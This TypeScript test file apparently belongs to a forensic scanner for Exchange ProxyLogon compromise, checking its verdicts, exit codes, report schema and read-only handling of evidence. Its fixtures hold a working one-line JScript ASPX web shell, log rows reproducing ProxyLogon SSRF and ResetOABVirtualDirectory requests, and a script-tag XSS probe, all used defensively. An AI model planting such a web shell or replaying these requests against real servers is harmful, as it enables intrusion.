// The scan command end to end on a small tree made here: exit codes, report schema, timeline, read-only evidence.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import test from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import type { ScanReport } from '../core/report.js';
import { main } from './main.js';
import { runCaptured } from './testing.js';

const INSTALL = 'Program Files/Microsoft/Exchange Server/V15';

async function tree(files: Record<string, string>): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'exhunt-scan-'));
  for (const [p, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, p)), { recursive: true });
    await writeFile(path.join(root, p), text);
  }
  return root;
}

const run = (args: string[]) => runCaptured(main, args);

const HP_FIELDS =
  'DateTime,RequestId,UrlStem,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method';
const httpProxy = (rows: string[]) =>
  `${HP_FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: ${HP_FIELDS}\r\n${rows.join('\r\n')}\r\n`;
const W3C_HEAD =
  '#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-05 03:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n';

const BENIGN_IIS =
  W3C_HEAD +
  '2021-03-05 03:06:28 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 1\r\n';

test('a compromised tree: exit 4, a report valid against the schema, evidence cited by path and line', async () => {
  const root = await tree({
    [`${INSTALL}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG`]: httpProxy([
      '2021-03-03T06:49:46.210Z,r2,/ecp/y.js,,ServerInfo~a]@ex.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,198.51.100.9,241,POST',
      '2021-03-03T06:59:20.359Z,r3,/ecp/y.js,,ServerInfo~a]@ex.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc&schema=ResetOABVirtualDirectory#,python-requests/2.25.1,198.51.100.9,200,POST',
    ]),
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log':
      BENIGN_IIS +
      '2021-03-05 03:07:00 10.0.0.5 POST /aspnet_client/discover.aspx - 443 - 198.51.100.9 <script>alert(1)</script> - 200 0 0 1\r\n',
    'inetpub/wwwroot/aspnet_client/discover.aspx':
      '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
  });
  const dir = await mkdtemp(path.join(os.tmpdir(), 'exhunt-out-'));
  const json = path.join(dir, 'r.json');
  const csv = path.join(dir, 't.csv');
  const { code, out } = await run(['scan', root, '--json', json, '--timeline', csv, '--threads', '2']);
  assert.equal(code, 4);
  assert.match(out, /Verdict: COMPROMISED/);
  const report = JSON.parse(await readFile(json, 'utf8')) as ScanReport;
  const schema = JSON.parse(
    await readFile(new URL('../../../schema/report.schema.json', import.meta.url), 'utf8'),
  ) as object;
  const ajv = new Ajv2020({ allErrors: true, strict: false });
  const validate = ajv.compile(schema);
  assert.equal(validate(report), true, JSON.stringify(validate.errors));
  const reset = report.findings.find((f) => f.rule.id === 'exhunt.proxylogon.reset-vdir');
  assert.deepEqual(reset?.evidence[0]?.path, `${INSTALL}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG`);
  assert.equal(reset?.evidence[0]?.line, 8);
  assert.deepEqual(reset?.sourceIps, ['198.51.100.9']);
  assert.equal(report.webshells[0]?.path, 'inetpub/wwwroot/aspnet_client/discover.aspx');
  const bytes = await readFile(path.join(root, 'inetpub/wwwroot/aspnet_client/discover.aspx'));
  assert.equal(report.webshells[0]?.sha256, createHash('sha256').update(bytes).digest('hex'));
  assert.ok(report.decisive.includes(reset?.id ?? ''));
  const timeline = await readFile(csv, 'utf8');
  assert.match(timeline.split('\r\n')[0] ?? '', /^message,datetime,timestamp_desc,/);
  assert.ok(timeline.includes('2021-03-03T06:59:20.359Z'));
  // The attacker's user agent is data: the console shows it escaped of controls, JSON keeps it as a string.
  assert.ok(report.findings.some((f) => f.userAgent === '<script>alert(1)</script>'));
});

test('probes only: exit 1; benign logs only: exit 0; no web logs: inconclusive, exit 5', async () => {
  const probed = await tree({
    [`${INSTALL}/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG`]: httpProxy([
      '2021-03-03T06:49:42.162Z,r1,/owa/auth/x.js,,ServerInfo~localhost/owa/auth/logon.aspx?,Mozilla/5.0 zgrab/0.x,192.0.2.7,200,GET',
    ]),
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log':
      BENIGN_IIS +
      '2021-03-05 03:07:00 10.0.0.5 GET /owa/auth/errorFS.aspx - 443 - 192.0.2.7 Mozilla/5.0 - 404 0 0 1\r\n',
  });
  assert.equal((await run(['scan', probed, '--quiet'])).code, 1);
  const clean = await tree({ 'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log': BENIGN_IIS });
  assert.equal((await run(['scan', clean, '--quiet'])).code, 0);
  const none = await tree({ 'ProgramData/readme.txt': 'nothing' });
  const r = await run(['scan', none, '--json', '-']);
  assert.equal(r.code, 5);
  assert.equal((JSON.parse(r.out) as ScanReport).verdict, 'inconclusive');
});

test('staged archives are context without exploitation and compromise with it', async () => {
  const base = {
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log': BENIGN_IIS,
    'ProgramData/it.zip': 'PK\x03\x04 tiny',
  };
  const r1 = JSON.parse((await run(['scan', await tree(base), '--json', '-'])).out) as ScanReport;
  assert.equal(r1.verdict, 'clean');
  assert.equal(r1.findings.find((f) => f.rule.id === 'exhunt.staged.archive')?.outcome, 'context');
  const r2 = JSON.parse(
    (
      await run([
        'scan',
        await tree({
          ...base,
          [`${INSTALL}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG`]: httpProxy([
            '2021-03-03T06:49:46.210Z,r2,/ecp/y.js,,ServerInfo~a]@ex.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,198.51.100.9,241,POST',
          ]),
        }),
        '--json',
        '-',
      ])
    ).out,
  ) as ScanReport;
  assert.equal(r2.verdict, 'compromised');
  assert.equal(r2.findings.find((f) => f.rule.id === 'exhunt.staged.archive')?.outcome, 'compromise');
});

test('the evidence is never written to', async () => {
  const root = await tree({
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log': BENIGN_IIS,
    'ProgramData/a.zip': 'PK',
  });
  const snapshot = async () => {
    const out: string[] = [];
    const walk = async (d: string): Promise<void> => {
      for (const e of await readdir(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) await walk(p);
        else
          out.push(
            `${p} ${(await stat(p)).mtimeMs} ${createHash('sha256')
              .update(await readFile(p))
              .digest('hex')}`,
          );
      }
    };
    await walk(root);
    return out.sort();
  };
  const before = await snapshot();
  await run(['scan', root, '--quiet', '--threads', '0']);
  assert.deepEqual(await snapshot(), before);
});

test('usage errors exit 2 with a message on stderr', async () => {
  const r = await run(['scan']);
  assert.equal(r.code, 2);
  assert.match(r.err, /exactly one evidence path/);
  assert.equal((await run(['scan', '/nonexistent/evidence'])).code, 2);
  assert.equal((await run(['nosuchcommand'])).code, 2);
});

test('benign logs written by a vulnerable build: inconclusive, with the build and the missing update named', async () => {
  const root = await tree({
    [`${INSTALL}/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG`]: httpProxy([
      '2021-03-03T06:49:42.162Z,r1,/owa/,CORP\\jdoe,Sid~S-1-5-21-1,Mozilla/5.0,10.1.1.1,200,GET',
    ]),
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log': BENIGN_IIS,
  });
  const r = await run(['scan', root, '--json', '-']);
  const report = JSON.parse(r.out) as ScanReport;
  assert.equal(report.verdict, 'inconclusive');
  assert.match(report.explanation, /vulnerable to ProxyLogon/);
  assert.equal(report.exposure?.build, '15.1.2176.2');
  assert.ok(report.exposure?.missing.some((m) => m.kb === 'KB5000871'));
  assert.equal(r.code, 5);
});
